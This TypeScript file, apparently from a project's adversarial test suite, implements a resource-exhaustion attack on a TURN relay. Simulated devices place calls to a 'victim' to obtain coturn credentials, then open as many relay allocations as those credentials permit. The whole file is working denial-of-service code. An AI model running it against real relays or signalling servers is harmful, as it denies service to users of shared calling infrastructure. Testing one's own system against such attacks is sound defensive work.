/** An attack on the relay: as many allocations as coturn grants to the credentials that one phone can get. */

import type { IceServer, RouterMessage } from '../../src/protocol/signaling.ts';
import { TurnClient } from '../router/turn-client.ts';
import type { Count, Enough } from './orders.ts';
import { Device, type Router } from './wire.ts';

/** How long a device waits for its ICE servers, in milliseconds. */
const ICE_MS = 5_000;

export async function allocate(
  router: Router,
  order: { victim: string; devices: number; allocations: number; addresses: number },
  own: readonly string[],
  count: Count,
  enough: Enough,
): Promise<void> {
  const clients: TurnClient[] = [];
  const devices = Array.from({ length: order.devices }, (_, index) => new Device(router, own[index % order.addresses]));
  const servers = await Promise.all(devices.map((device) => relayFor(device, order.victim)));
  const each = Math.ceil(order.allocations / order.devices);
  for (const server of servers) {
    if (server === undefined) {
      count('devices without credentials');
      continue;
    }
    for (let made = 0; made < each && !enough.isSaid; made += 1) {
      const client = new TurnClient(server.at, server.credential);
      clients.push(client);
      const result = await client.allocate().catch(() => 'no answer' as const);
      count(result === 'success' ? 'allocations granted' : `allocations refused (${result})`);
      if (result !== 'success') break;
    }
  }
  await enough.word;
  for (const device of devices) device.drop();
  for (const client of clients) client.close();
}

type Relay = {
  readonly at: { readonly address: string; readonly port: number };
  readonly credential: { readonly username: string; readonly credential: string };
};

/** What the router gives a device to call `victim` with. */
async function relayFor(device: Device, victim: string): Promise<Relay | undefined> {
  const servers = new Promise<readonly IceServer[]>((resolve) => {
    device.onMessage((message: RouterMessage) => {
      if (message.type === 'ice') resolve(message.iceServers);
      if (message.type === 'unreachable') resolve([]);
    });
    setTimeout(() => resolve([]), ICE_MS);
  });
  if (!(await device.welcome)) return undefined;
  const id = device.idOf(victim);
  if (id === undefined) return undefined;
  device.call(id, 'sound');
  for (const { urls, username, credential } of await servers) {
    const [, address, port] = /^turn:([\d.]+):(\d+)\?transport=udp$/.exec(urls) ?? [];
    if (address !== undefined && username !== undefined && credential !== undefined)
      return { at: { address, port: Number(port) }, credential: { username, credential } };
  }
  return undefined;
}
